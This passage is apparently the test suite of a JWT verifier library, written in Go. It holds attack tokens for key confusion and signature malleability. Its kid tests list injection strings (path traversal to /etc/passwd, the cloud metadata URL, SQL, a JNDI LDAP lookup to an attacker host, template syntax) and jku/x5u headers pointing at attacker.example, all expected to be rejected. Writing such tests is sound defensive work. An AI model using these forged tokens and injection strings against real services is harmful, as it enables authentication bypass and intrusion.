package verifier_test

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha1"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"math/big"
	"strings"
	"testing"
	"time"

	"github.com/tokengate/tokengate/verifier"
)

// Tables of SECURITY.md sections 3.2 (key confusion), 3.3 (alg, key
// type and curve mismatch), 3.4 (kid), 3.5 (token-supplied keys), 3.10
// (ECDSA, EdDSA), 3.11 R6 (RSA signatures) and 3.16 (HMAC) run through
// Verify. The key-import rows (M4, M8, E5-E7, R1-R5, J1-J6, HM3, HM4) are in
// keypolicy_test.go.

func TestKeyConfusion(t *testing.T) { runCases(t, confusionCases()) }
func TestAlgMismatch(t *testing.T)  { runCases(t, mismatchCases()) }
func TestAlgorithms(t *testing.T)   { runCases(t, algCases()) }
func TestKid(t *testing.T)          { runCases(t, kidCases()) }
func TestEmbeddedKeys(t *testing.T) { runCases(t, embeddedCases()) }
func TestECDSAEdDSA(t *testing.T)   { runCases(t, ecCases()) }
func TestRSASignatures(t *testing.T) {
	runCases(t, rsaCases())
}
func TestHMAC(t *testing.T) { runCases(t, hmacCases()) }

func rsaPub() any { return &rsaKey.PublicKey }
func ecPub() any  { return &ecKey.PublicKey }
func edPub() any  { return edKey.Public() }

// hsToken signs p with HS256 under the secret that secret() returns: the
// attacker's token of the key-confusion rows.
func hsToken(kid string, secret func() []byte, p string) func(testing.TB) string {
	return func(t testing.TB) string {
		h := `{"alg":"HS256","typ":"JWT"}`
		if kid != "" {
			h = hdr("HS256", kid)
		}
		return sign(t, "HS256", secret(), h, p)
	}
}

// rsaPublicTexts are the encodings of K_rsa an attacker may try as an HMAC
// secret (KC1, KC2).
func rsaPublicTexts() []struct {
	id     string
	secret func() []byte
} {
	pemLF := func() []byte { return pemSPKI(&rsaKey.PublicKey) }
	return []struct {
		id     string
		secret func() []byte
	}{
		{"KC1/pem-lf", pemLF},
		{"KC1/pem-no-lf", func() []byte { return []byte(strings.TrimSuffix(string(pemLF()), "\n")) }},
		{"KC1/pem-crlf", func() []byte { return []byte(strings.ReplaceAll(string(pemLF()), "\n", "\r\n")) }},
		{"KC2/pkcs1-pem", func() []byte {
			return pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(&rsaKey.PublicKey)})
		}},
		{"KC2/der-spki", func() []byte {
			der, _ := x509.MarshalPKIXPublicKey(&rsaKey.PublicKey)
			return der
		}},
		{"KC2/raw-n", func() []byte { return rsaKey.N.Bytes() }},
		{"KC2/jwk-json", func() []byte { return []byte(rsaJWK(&rsaKey.PublicKey, "k1")) }},
		{"KC2/b64url-n", func() []byte { return []byte(b64(rsaKey.N.Bytes())) }},
	}
}

func rsaJWK(pub *rsa.PublicKey, kid string) string {
	return fmt.Sprintf(`{"kty":"RSA","kid":%q,"n":%q,"e":"AQAB"}`, kid, b64(pub.N.Bytes()))
}

// 3.2 key confusion: HS256 tokens whose secret is public key material.
func confusionCases() []tokenCase {
	p := claims(nil)
	var cases []tokenCase
	for _, s := range rsaPublicTexts() {
		cases = append(cases,
			// HS256 not allowed at all.
			tokenCase{id: s.id + "/RS256-only", tok: hsToken("k1", s.secret, p), want: errAlg},
			// HS256 allowed, but k1 is bound to RS256.
			tokenCase{id: s.id + "/RS256-HS256", cfg: algs("RS256", "HS256"), tok: hsToken("k1", s.secret, p), want: errKid},
			tokenCase{id: s.id + "/RS256-HS256-no-kid", cfg: algs("RS256", "HS256"), tok: hsToken("", s.secret, p), want: errKid},
			// A key source that ignores alg: the verifier still refuses.
			tokenCase{id: s.id + "/naive-source", cfg: keysAlgs(func() verifier.KeySource {
				return naiveSource{"k1": key("k1", "RS256", rsaPub())}
			}, "RS256", "HS256"), tok: hsToken("k1", s.secret, p), want: errAlg},
		)
	}
	ecTexts := []struct {
		id     string
		secret func() []byte
	}{
		{"KC3/uncompressed", func() []byte { b, _ := ecKey.PublicKey.Bytes(); return b }},
		{"KC3/x-y", func() []byte { b, _ := ecKey.PublicKey.Bytes(); return b[1:] }},
		{"KC3/compressed", func() []byte {
			b, _ := ecKey.PublicKey.Bytes()
			x, y := new(big.Int).SetBytes(b[1:33]), new(big.Int).SetBytes(b[33:])
			return elliptic.MarshalCompressed(elliptic.P256(), x, y)
		}},
	}
	for _, s := range ecTexts {
		cases = append(cases,
			tokenCase{id: s.id + "/ES256-only", cfg: algs("ES256"), tok: hsToken("e1", s.secret, p), want: errAlg},
			tokenCase{id: s.id + "/ES256-HS256", cfg: algs("ES256", "HS256"), tok: hsToken("e1", s.secret, p), want: errKid},
			tokenCase{id: s.id + "/naive-source", cfg: keysAlgs(func() verifier.KeySource {
				return naiveSource{"e1": key("e1", "ES256", ecPub())}
			}, "ES256", "HS256"), tok: hsToken("e1", s.secret, p), want: errAlg},
		)
	}
	edSecret := func() []byte { return []byte(edKey.Public().(ed25519.PublicKey)) }
	edSet := func() verifier.KeySource { return set(key("o1", "EdDSA", edPub())) }
	cases = append(cases,
		tokenCase{id: "KC4/EdDSA-only", cfg: keysAlgs(edSet, "EdDSA"), tok: hsToken("o1", edSecret, p), want: errAlg},
		tokenCase{id: "KC4/EdDSA-HS256", cfg: keysAlgs(edSet, "EdDSA", "HS256"), tok: hsToken("o1", edSecret, p), want: errKid},
		tokenCase{id: "KC4/naive-source", cfg: keysAlgs(func() verifier.KeySource {
			return naiveSource{"o1": key("o1", "EdDSA", edPub())}
		}, "EdDSA", "HS256"), tok: hsToken("o1", edSecret, p), want: errAlg},
		// (NewKey refusing an ed25519.PublicKey for HS256: keypolicy_test.go.)
	)
	// KC5: RS256 and HS256 both allowed, both key types present (a key set
	// cannot mix them, so a source routes by family, as an application
	// with two sets would).
	pemSecret := func() []byte { return pemSPKI(&rsaKey.PublicKey) }
	routed := func() verifier.KeySource { return routeSource{} }
	naiveBoth := func() verifier.KeySource {
		return naiveSource{"k1": key("k1", "RS256", rsaPub()), "h1": key("h1", "HS256", hmacKey)}
	}
	cases = append(cases,
		tokenCase{id: "KC5/HS256-rsa-kid", cfg: keysAlgs(routed, "RS256", "HS256"), tok: hsToken("k1", pemSecret, p), want: errKid},
		tokenCase{id: "KC5/HS256-hmac-kid-pem-secret", cfg: keysAlgs(routed, "RS256", "HS256"), tok: hsToken("h1", pemSecret, p), want: errSig},
		tokenCase{id: "KC5/HS256-no-kid-pem-secret", cfg: keysAlgs(routed, "RS256", "HS256"), tok: hsToken("", pemSecret, p), want: errSig},
		tokenCase{id: "KC5/RS256-hmac-kid", cfg: keysAlgs(routed, "RS256", "HS256"), tok: signed("RS256", rsaPriv, hdr("RS256", "h1"), p), want: errKid},
		tokenCase{id: "KC5/HS256-genuine", cfg: keysAlgs(routed, "RS256", "HS256"), tok: hsToken("h1", func() []byte { return hmacKey }, p), want: nil},
		tokenCase{id: "KC5/RS256-genuine", cfg: keysAlgs(routed, "RS256", "HS256"), tok: rs(p), want: nil},
		tokenCase{id: "KC5/naive-HS256-rsa-kid", cfg: keysAlgs(naiveBoth, "RS256", "HS256"), tok: hsToken("k1", pemSecret, p), want: errAlg},
		tokenCase{id: "KC5/naive-RS256-hmac-kid", cfg: keysAlgs(naiveBoth, "RS256", "HS256"), tok: signed("RS256", rsaPriv, hdr("RS256", "h1"), p), want: errAlg},
	)
	return cases
}

// routeSource holds an RSA set (k1) and an HMAC set (h1), and asks the one
// whose family the alg names.
type routeSource struct{}

func (routeSource) Key(ctx context.Context, kid, alg string) (*verifier.Key, error) {
	if strings.HasPrefix(alg, "HS") {
		return set(key("h1", "HS256", hmacKey)).Key(ctx, kid, alg)
	}
	return set(key("k1", "RS256", rsaPub())).Key(ctx, kid, alg)
}

// 3.3 alg, key type and curve mismatch.
func mismatchCases() []tokenCase {
	p := claims(nil)
	naive := func(kid, alg string, pub func() any) func() verifier.KeySource {
		return func() verifier.KeySource { return naiveSource{kid: key(kid, alg, pub())} }
	}
	ecSet := func() verifier.KeySource {
		return set(key("e1", "ES256", ecPub()), key("p384", "ES384", &ec384Key.PublicKey))
	}
	psSet := func() verifier.KeySource { return set(key("p1", "PS256", rsaPub())) }
	edSet := func(alg string) func() verifier.KeySource {
		return func() verifier.KeySource { return set(key("o1", alg, edPub())) }
	}
	ed := func(alg string) func(testing.TB) string { return signed(alg, edPriv, hdr(alg, "o1"), p) }
	bothK1 := func() verifier.KeySource { return set(key("k1", "RS256", rsaPub()), key("k1", "ES256", ecPub())) }
	return []tokenCase{
		{id: "M1/RS256-kid-e1", cfg: algs("RS256", "ES256"), tok: signed("RS256", rsaPriv, hdr("RS256", "e1"), p), want: errKid},
		{id: "M1/RS256-header-ES256-signature", cfg: algs("RS256", "ES256"), tok: signed("ES256", ecPriv, hdr("RS256", "e1"), p), want: errKid},
		{id: "M1/naive-source", cfg: keysAlgs(naive("e1", "ES256", ecPub), "RS256", "ES256"), tok: signed("ES256", ecPriv, hdr("RS256", "e1"), p), want: errAlg},
		{id: "M2/ES256-P384-key", cfg: keysAlgs(ecSet, "ES256", "ES384"), tok: signed("ES384", func() any { return ec384Key }, hdr("ES256", "p384"), p), want: errKid},
		{id: "M2/ES384-P256-key", cfg: keysAlgs(ecSet, "ES256", "ES384"), tok: signed("ES384", ecPriv, hdr("ES384", "e1"), p), want: errKid},
		{id: "M2/naive-ES256-P384-key", cfg: keysAlgs(naive("p384", "ES384", func() any { return &ec384Key.PublicKey }), "ES256", "ES384"),
			tok: signed("ES384", func() any { return ec384Key }, hdr("ES256", "p384"), p), want: errAlg},
		{id: "M2/naive-ES384-P256-key", cfg: keysAlgs(naive("e1", "ES256", ecPub), "ES256", "ES384"), tok: signed("ES384", ecPriv, hdr("ES384", "e1"), p), want: errAlg},
		{id: "M2/ES384-genuine", cfg: keysAlgs(ecSet, "ES256", "ES384"), tok: signed("ES384", func() any { return ec384Key }, hdr("ES384", "p384"), p), want: nil},
		{id: "M3/PS256-RS256-key", cfg: algs("RS256", "PS256"), tok: signed("PS256", rsaPriv, hdr("PS256", "k1"), p), want: errKid},
		{id: "M3/naive-PS256-RS256-key", cfg: keysAlgs(naive("k1", "RS256", rsaPub), "RS256", "PS256"), tok: signed("PS256", rsaPriv, hdr("PS256", "k1"), p), want: errAlg},
		{id: "M3/RS256-PS256-key", cfg: keysAlgs(psSet, "RS256", "PS256"), tok: signed("RS256", rsaPriv, hdr("RS256", "p1"), p), want: errKid},
		{id: "M3/naive-RS256-PS256-key", cfg: keysAlgs(naive("p1", "PS256", rsaPub), "RS256", "PS256"), tok: signed("RS256", rsaPriv, hdr("RS256", "p1"), p), want: errAlg},
		{id: "M3/PS256-genuine", cfg: keysAlgs(psSet, "RS256", "PS256"), tok: signed("PS256", rsaPriv, hdr("PS256", "p1"), p), want: nil},
		{id: "M5/EdDSA-header", cfg: keysAlgs(edSet("EdDSA"), "EdDSA", "Ed25519"), tok: ed("EdDSA"), want: nil},
		{id: "M5/Ed25519-header", cfg: keysAlgs(edSet("EdDSA"), "EdDSA", "Ed25519"), tok: ed("Ed25519"), want: nil},
		{id: "M5/Ed25519-key-EdDSA-header", cfg: keysAlgs(edSet("Ed25519"), "EdDSA", "Ed25519"), tok: ed("EdDSA"), want: nil},
		{id: "M5/Ed25519-not-allowed", cfg: keysAlgs(edSet("EdDSA"), "EdDSA"), tok: ed("Ed25519"), want: errAlg},
		{id: "M5/EdDSA-not-allowed", cfg: keysAlgs(edSet("Ed25519"), "Ed25519"), tok: ed("EdDSA"), want: errAlg},
		{id: "M5/Ed448-header", cfg: keysAlgs(edSet("EdDSA"), "EdDSA", "Ed25519"), tok: signed("EdDSA", edPriv, hdr("Ed448", "o1"), p), want: errAlg},
		{id: "M5/EdDSA-with-RSA-kid", cfg: keysAlgs(func() verifier.KeySource {
			return set(key("o1", "EdDSA", edPub()), key("k1", "RS256", rsaPub()))
		}, "EdDSA", "RS256"), tok: signed("EdDSA", edPriv, hdr("EdDSA", "k1"), p), want: errKid},
		// J2: one kid shared by keys of two types: selected by (kid, alg).
		{id: "J2/RS256", cfg: keysAlgs(bothK1, "RS256", "ES256"), tok: rs(p), want: nil},
		{id: "J2/ES256", cfg: keysAlgs(bothK1, "RS256", "ES256"), tok: signed("ES256", ecPriv, hdr("ES256", "k1"), p), want: nil},
		{id: "J2/ES256-signed-by-RSA", cfg: keysAlgs(bothK1, "RS256", "ES256"), tok: signed("RS256", rsaPriv, hdr("ES256", "k1"), p), want: errSig},
		// M4, M6, M7, M8 are JWK import rows: package jwks; the verifier side
		// of M4 and M8 (NewKey) is in keypolicy_test.go.
	}
}

// A1, A12: every algorithm verifies with a key bound to it, and only when
// allowed.
func algCases() []tokenCase {
	p := claims(nil)
	one := func(kid, alg string, pub any) func() verifier.KeySource {
		return func() verifier.KeySource { return set(key(kid, alg, pub)) }
	}
	var cases []tokenCase
	for _, a := range []struct {
		alg  string
		priv func() any
		pub  func() any
	}{
		{"RS256", rsaPriv, rsaPub}, {"RS384", rsaPriv, rsaPub}, {"RS512", rsaPriv, rsaPub},
		{"PS256", rsaPriv, rsaPub}, {"PS384", rsaPriv, rsaPub}, {"PS512", rsaPriv, rsaPub},
		{"ES256", ecPriv, ecPub},
		{"ES384", func() any { return ec384Key }, func() any { return &ec384Key.PublicKey }},
		{"ES512", func() any { return ec521Key }, func() any { return &ec521Key.PublicKey }},
		{"EdDSA", edPriv, edPub}, {"Ed25519", edPriv, edPub},
		{"HS256", hmacPriv, hmacPriv}, {"HS384", hmacPriv, hmacPriv}, {"HS512", hmacPriv, hmacPriv},
	} {
		src := func() verifier.KeySource { return one("x1", a.alg, a.pub())() }
		cases = append(cases,
			tokenCase{id: "A1/" + a.alg, cfg: keysAlgs(src, a.alg), tok: signed(a.alg, a.priv, hdr(a.alg, "x1"), p), want: nil},
			tokenCase{id: "A1/" + a.alg + "-not-allowed", cfg: func(c *verifier.Config) {
				c.Keys = src()
				if a.alg != "RS256" {
					c.Algorithms = nil // the default: RS256 only
				} else {
					c.Algorithms = []string{"PS256"}
				}
			}, tok: signed(a.alg, a.priv, hdr(a.alg, "x1"), p), want: errAlg},
			tokenCase{id: "A1/" + a.alg + "-bad-signature", cfg: keysAlgs(src, a.alg), tok: func(t testing.TB) string {
				tok := signed(a.alg, a.priv, hdr(a.alg, "x1"), p)(t)
				return flipLastSigByte(tok)
			}, want: errSig},
		)
	}
	return cases
}

// flipLastSigByte flips the lowest bit of the last signature byte.
func flipLastSigByte(tok string) string {
	i := strings.LastIndexByte(tok, '.')
	sig, err := base64.RawURLEncoding.DecodeString(tok[i+1:])
	if err != nil {
		panic(err)
	}
	sig[len(sig)-1] ^= 1
	return tok[:i+1] + b64(sig)
}

// 3.4 kid handling.
func kidCases() []tokenCase {
	p := claims(nil)
	kidTok := func(kidJSON string) func(testing.TB) string {
		return rsHeader(`{"alg":"RS256","typ":"JWT","kid":`+kidJSON+`}`, p)
	}
	kid := func(k string) func(testing.TB) string { return signed("RS256", rsaPriv, hdr("RS256", k), p) }
	noKid := rsHeader(`{"alg":"RS256","typ":"JWT"}`, p)
	k1Only := func() verifier.KeySource { return set(key("k1", "RS256", rsaPub())) }
	twoRSA := func() verifier.KeySource {
		return set(key("k1", "RS256", rsaPub()), key("k2", "RS256", &rsaKey2.PublicKey))
	}
	big := func(c *verifier.Config) { c.MaxTokenSize = 4 << 20 }
	return []tokenCase{
		{id: "KD1/dev-null", tok: kid("../../../../dev/null"), want: errKid},
		{id: "KD1/etc-passwd", tok: kid("/etc/passwd"), want: errKid},
		{id: "KD1/file-url", tok: kid("file:///"), want: errKid},
		{id: "KD1/metadata-url", tok: kid("http://169.254.169.254/"), want: errKid},
		{id: "KD2/sql", tok: kid("' OR '1'='1"), want: errKid, msg: `"' OR '1'='1"`},
		{id: "KD2/sql-comment", tok: kid("k1' --"), want: errKid},
		{id: "KD2/jndi", tok: kid("${jndi:ldap://attacker/a}"), want: errKid},
		{id: "KD2/template", tok: kid("{{7*7}}"), want: errKid, msg: `"{{7*7}}"`},
		{id: "KD3/1MiB", tok: kid(strings.Repeat("k", 1<<20)), want: errMalformed},
		{id: "KD3/1MiB-no-size-cap", cfg: big, tok: kid(strings.Repeat("k", 1<<20)), want: errMalformed},
		{id: "KD3/257-bytes", tok: kid(strings.Repeat("k", 257)), want: errMalformed},
		{id: "KD3/256-bytes", tok: kid(strings.Repeat("k", 256)), want: errKid},
		{id: "KD3/NUL", tok: kidTok(`"k1\u0000"`), want: errMalformed},
		{id: "KD3/newline", tok: kidTok(`"k1\n"`), want: errMalformed},
		{id: "KD3/ANSI", tok: kidTok(`"\u001b[31mk1"`), want: errMalformed},
		{id: "KD3/DEL", tok: kidTok("\"k1\x7f\""), want: errMalformed},
		{id: "KD3/invalid-UTF-8", tok: kidTok("\"k1\xff\""), want: errMalformed},
		{id: "KD4/number", tok: kidTok(`1`), want: errMalformed},
		{id: "KD4/null", tok: kidTok(`null`), want: errMalformed},
		{id: "KD4/array", tok: kidTok(`["k1"]`), want: errMalformed},
		{id: "KD4/object", tok: kidTok(`{"k1":true}`), want: errMalformed},
		{id: "KD4/bool", tok: kidTok(`true`), want: errMalformed},
		{id: "KD5/upper", tok: kid("K1"), want: errKid},
		{id: "KD5/fullwidth", tok: kid("ｋ1"), want: errKid},
		{id: "KD5/trailing-space", tok: kid("k1 "), want: errKid},
		{id: "KD5/leading-space", tok: kid(" k1"), want: errKid},
		// A JSON escape is not a normalisation: "\u006b1" is the string k1.
		{id: "KD5/json-escape", tok: kidTok(`"\u006b1"`), want: nil},
		{id: "KD6/one-key", cfg: keysAlgs(k1Only, "RS256"), tok: noKid, want: nil},
		{id: "KD6/one-key-per-alg", cfg: algs("RS256", "ES256"), tok: noKid, want: nil},
		{id: "KD6/ES256-one-key-per-alg", cfg: algs("RS256", "ES256"), tok: rsHeaderES(`{"alg":"ES256"}`, p), want: nil},
		{id: "KD6/no-key-of-alg", cfg: keysAlgs(k1Only, "RS256", "ES256"), tok: rsHeaderES(`{"alg":"ES256"}`, p), want: errKid},
		{id: "KD7/two-keys-same-alg", cfg: keysAlgs(twoRSA, "RS256"), tok: noKid, want: errKid},
		{id: "KD7/two-keys-signed-by-second", cfg: keysAlgs(twoRSA, "RS256"), tok: signed("RS256", rsaPriv2, `{"alg":"RS256"}`, p), want: errKid},
		{id: "KD7/with-kid-ok", cfg: keysAlgs(twoRSA, "RS256"), tok: signed("RS256", rsaPriv2, hdr("RS256", "k2"), p), want: nil},
	}
}

// rsHeaderES signs payload with K_ec under a raw header.
func rsHeaderES(header, payload string) func(testing.TB) string {
	return signed("ES256", ecPriv, header, payload)
}

// selfSigned returns a self-signed certificate of pub, signed by priv.
func selfSigned(pub, priv any) []byte {
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		Subject:      pkix.Name{CommonName: "idp.example.com"},
		NotBefore:    time.Unix(1_700_000_000, 0),
		NotAfter:     time.Unix(1_900_000_000, 0),
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, pub, priv)
	if err != nil {
		panic(err)
	}
	return der
}

// 3.5 token-supplied keys: jwk, x5c, x5t (H1, H3, H4; H2 with its request
// counters is TestNoOutboundRequest).
func embeddedCases() []tokenCase {
	p := claims(nil)
	reject := func(c *verifier.Config) { c.RejectEmbeddedKeys = true }
	attackerJWK := func() string { return rsaJWK(&rsaKey2.PublicKey, "k1") }
	h := func(priv func() any, members func() string) func(testing.TB) string {
		return func(t testing.TB) string {
			return sign(t, "RS256", priv(), `{"alg":"RS256","kid":"k1",`+members()+`}`, p)
		}
	}
	noKid := func(priv func() any, members func() string) func(testing.TB) string {
		return func(t testing.TB) string {
			return sign(t, "RS256", priv(), `{"alg":"RS256",`+members()+`}`, p)
		}
	}
	jwk := func() string { return `"jwk":` + attackerJWK() }
	realJWK := func() string { return `"jwk":` + rsaJWK(&rsaKey.PublicKey, "k1") }
	x5cAttacker := func() string {
		return `"x5c":["` + base64.StdEncoding.EncodeToString(selfSigned(&rsaKey2.PublicKey, rsaKey2)) + `"]`
	}
	x5tReal := func() string {
		der := selfSigned(&rsaKey.PublicKey, rsaKey)
		s1 := sha1.Sum(der)
		s256 := sha256.Sum256(der)
		return fmt.Sprintf(`"x5t":%q,"x5t#S256":%q`, b64(s1[:]), b64(s256[:]))
	}
	jku := func() string { return `"jku":"https://attacker.example/jwks.json"` }
	x5u := func() string { return `"x5u":"https://attacker.example/cert.pem"` }
	return []tokenCase{
		{id: "H1/attacker-jwk", tok: h(rsaPriv2, jwk), want: errSig},
		{id: "H1/attacker-jwk-no-kid", tok: noKid(rsaPriv2, jwk), want: errSig},
		{id: "H1/attacker-jwk-switch-on", cfg: reject, tok: h(rsaPriv2, jwk), want: errMalformed},
		{id: "H1/real-jwk-ignored", tok: h(rsaPriv, realJWK), want: nil},
		{id: "H3/x5c-self-signed", tok: h(rsaPriv2, x5cAttacker), want: errSig},
		{id: "H3/x5c-self-signed-no-kid", tok: noKid(rsaPriv2, x5cAttacker), want: errSig},
		{id: "H3/x5t-real-cert", tok: h(rsaPriv2, x5tReal), want: errSig},
		{id: "H3/x5t-real-cert-no-kid", tok: noKid(rsaPriv2, x5tReal), want: errSig},
		{id: "H3/x5t-genuine", tok: h(rsaPriv, x5tReal), want: nil},
		{id: "H4/jwk", cfg: reject, tok: h(rsaPriv, realJWK), want: errMalformed},
		{id: "H4/jku", cfg: reject, tok: h(rsaPriv, jku), want: errMalformed},
		{id: "H4/x5u", cfg: reject, tok: h(rsaPriv, x5u), want: errMalformed},
		{id: "H4/x5c", cfg: reject, tok: h(rsaPriv, x5cAttacker), want: errMalformed},
		{id: "H4/x5t-only", cfg: reject, tok: h(rsaPriv, x5tReal), want: nil},
		{id: "H4/switch-off-jku", tok: h(rsaPriv, jku), want: nil},
		{id: "H4/switch-off-x5u", tok: h(rsaPriv, x5u), want: nil},
	}
}

// ES256 signature surgery.
var (
	p256N = elliptic.P256().Params().N
	p256P = elliptic.P256().Params().P
)

// rawRS encodes r and s as R||S of size bytes each; a value that does not
// fit takes as many bytes as it needs (a malformed length, E2).
func rawRS(r, s *big.Int, size int) []byte {
	enc := func(v *big.Int) []byte {
		b := v.Bytes()
		if len(b) >= size {
			return b
		}
		return append(make([]byte, size-len(b)), b...)
	}
	return append(enc(r), enc(s)...)
}

// esTok returns an ES256 token (kid e1) whose signature sig computes from
// the signing input and a genuine signature.
func esTok(p string, sig func(input, genuine []byte) []byte) func(testing.TB) string {
	return func(t testing.TB) string {
		input := b64([]byte(hdr("ES256", "e1"))) + "." + b64([]byte(p))
		return input + "." + b64(sig([]byte(input), signature(t, "ES256", ecKey, []byte(input))))
	}
}

// edTok is esTok for EdDSA (kid o1).
func edTok(p string, sig func(genuine []byte) []byte) func(testing.TB) string {
	return func(t testing.TB) string {
		input := b64([]byte(hdr("EdDSA", "o1"))) + "." + b64([]byte(p))
		return input + "." + b64(sig(ed25519.Sign(edKey, []byte(input))))
	}
}

// 3.10 ECDSA and EdDSA signatures (key import rows E5, E6, E7 keys:
// keypolicy_test.go).
func ecCases() []tokenCase {
	p := claims(nil)
	es := algs("ES256")
	n, pp := p256N, p256P
	one := big.NewInt(1)
	zero := big.NewInt(0)
	add := func(a, b *big.Int) *big.Int { return new(big.Int).Add(a, b) }
	sub := func(a, b *big.Int) *big.Int { return new(big.Int).Sub(a, b) }
	fixed := func(r, s *big.Int) func(_, _ []byte) []byte {
		return func(_, _ []byte) []byte { return rawRS(r, s, 32) }
	}
	// withRS rewrites the genuine signature's r and s.
	withRS := func(f func(r, s *big.Int) (*big.Int, *big.Int)) func(_, g []byte) []byte {
		return func(_, g []byte) []byte {
			r, s := f(new(big.Int).SetBytes(g[:32]), new(big.Int).SetBytes(g[32:]))
			return rawRS(r, s, 32)
		}
	}
	edL, _ := new(big.Int).SetString("7237005577332262213973186563042994240857116359379907606001950938285454250989", 10)
	edSet := func() verifier.KeySource { return set(key("o1", "EdDSA", edPub())) }
	eds := keysAlgs(edSet, "EdDSA")
	return []tokenCase{
		{id: "E1/r0-s0", cfg: es, tok: esTok(p, fixed(zero, zero)), want: errSig},
		{id: "E1/r0-s1", cfg: es, tok: esTok(p, fixed(zero, one)), want: errSig},
		{id: "E1/r1-s0", cfg: es, tok: esTok(p, fixed(one, zero)), want: errSig},
		{id: "E1/r1-s1", cfg: es, tok: esTok(p, fixed(one, one)), want: errSig},
		{id: "E1/r-n-s-n", cfg: es, tok: esTok(p, fixed(n, n)), want: errSig},
		{id: "E1/r-n-1", cfg: es, tok: esTok(p, fixed(sub(n, one), sub(n, one))), want: errSig},
		{id: "E1/r-p", cfg: es, tok: esTok(p, fixed(pp, one)), want: errSig},
		{id: "E1/r-p-plus-1", cfg: es, tok: esTok(p, fixed(add(pp, one), one)), want: errSig},
		{id: "E2/r-n", cfg: es, tok: esTok(p, withRS(func(_, s *big.Int) (*big.Int, *big.Int) { return n, s })), want: errSig},
		{id: "E2/s-n", cfg: es, tok: esTok(p, withRS(func(r, _ *big.Int) (*big.Int, *big.Int) { return r, n })), want: errSig},
		{id: "E2/r-plus-n", cfg: es, tok: esTok(p, withRS(func(r, s *big.Int) (*big.Int, *big.Int) { return add(r, n), s })), want: errSig},
		{id: "E2/s-plus-n", cfg: es, tok: esTok(p, withRS(func(r, s *big.Int) (*big.Int, *big.Int) { return r, add(s, n) })), want: errSig},
		{id: "E2/s-max", cfg: es, tok: esTok(p, withRS(func(r, _ *big.Int) (*big.Int, *big.Int) {
			return r, sub(new(big.Int).Lsh(one, 256), one)
		})), want: errSig},
		{id: "E3/63-bytes", cfg: es, tok: esTok(p, func(_, g []byte) []byte { return g[:63] }), want: errSig},
		{id: "E3/65-bytes", cfg: es, tok: esTok(p, func(_, g []byte) []byte { return append(g, 0) }), want: errSig},
		{id: "E3/65-bytes-leading-zero", cfg: es, tok: esTok(p, func(_, g []byte) []byte { return append([]byte{0}, g...) }), want: errSig},
		{id: "E3/70-bytes", cfg: es, tok: esTok(p, func(_, g []byte) []byte { return append(g, 0, 0, 0, 0, 0, 0) }), want: errSig},
		{id: "E3/DER", cfg: es, tok: esTok(p, func(input, _ []byte) []byte {
			d := sha256.Sum256(input)
			der, err := ecdsa.SignASN1(rand.Reader, ecKey, d[:])
			if err != nil {
				panic(err)
			}
			return der
		}), want: errSig},
		{id: "E3/small-r-s", cfg: es, tok: esTok(p, func(_, _ []byte) []byte { return []byte{1, 1} }), want: errSig},
		{id: "E3/128-bytes", cfg: es, tok: esTok(p, func(_, g []byte) []byte { return append(g, g...) }), want: errSig},
		{id: "E4/high-s", cfg: es, tok: esTok(p, withRS(func(r, s *big.Int) (*big.Int, *big.Int) { return r, sub(n, s) })), want: nil},
		{id: "E4/genuine", cfg: es, tok: esTok(p, func(_, g []byte) []byte { return g }), want: nil},
		{id: "E7/S-plus-L", cfg: eds, tok: edTok(p, func(g []byte) []byte {
			// S is little-endian in the second half; S+L < 2^256.
			le := g[32:]
			be := make([]byte, 32)
			for i := range le {
				be[31-i] = le[i]
			}
			s := new(big.Int).Add(new(big.Int).SetBytes(be), edL)
			s.FillBytes(be)
			out := append([]byte(nil), g[:32]...)
			for i := range be {
				out = append(out, be[31-i])
			}
			return out
		}), want: errSig},
		{id: "E7/truncated", cfg: eds, tok: edTok(p, func(g []byte) []byte { return g[:63] }), want: errSig},
		{id: "E7/garbage-appended", cfg: eds, tok: edTok(p, func(g []byte) []byte { return append(g, 0) }), want: errSig},
		{id: "E7/zero", cfg: eds, tok: edTok(p, func([]byte) []byte { return make([]byte, 64) }), want: errSig},
		{id: "E7/genuine", cfg: eds, tok: edTok(p, func(g []byte) []byte { return g }), want: nil},
	}
}

// pkcs1Tok signs the RS256 signing input with a raw RSA operation over the
// encoded message em(digest).
func pkcs1Tok(p string, em func(digest []byte) []byte) func(testing.TB) string {
	return func(t testing.TB) string {
		input := b64([]byte(hdr("RS256", "k1"))) + "." + b64([]byte(p))
		d := sha256.Sum256([]byte(input))
		m := new(big.Int).SetBytes(em(d[:]))
		s := new(big.Int).Exp(m, rsaKey.D, rsaKey.N)
		return input + "." + b64(s.FillBytes(make([]byte, rsaKey.Size())))
	}
}

// emsa builds an EMSA-PKCS1-v1_5 block 00 01 FF.. 00 T of the key size.
func emsa(t []byte) []byte {
	em := make([]byte, 256)
	em[1] = 1
	for i := 2; i < 256-len(t)-1; i++ {
		em[i] = 0xff
	}
	copy(em[256-len(t):], t)
	return em
}

var (
	digestInfoSHA256   = []byte{0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x01, 0x05, 0x00, 0x04, 0x20}
	digestInfoNoNull   = []byte{0x30, 0x2f, 0x30, 0x0b, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x01, 0x04, 0x20}
	digestInfoSHA512ID = []byte{0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x03, 0x05, 0x00, 0x04, 0x20}
)

func cat(bs ...[]byte) []byte {
	var out []byte
	for _, b := range bs {
		out = append(out, b...)
	}
	return out
}

// 3.11 R6: PKCS#1 v1.5 encodings other than the one DigestInfo, and PSS
// salts other than the hash length. (R1-R5, key import: keypolicy_test.go.)
func rsaCases() []tokenCase {
	p := claims(nil)
	pss := func(salt int) func(testing.TB) string {
		return func(t testing.TB) string {
			input := b64([]byte(hdr("PS256", "k1"))) + "." + b64([]byte(p))
			d := sha256.Sum256([]byte(input))
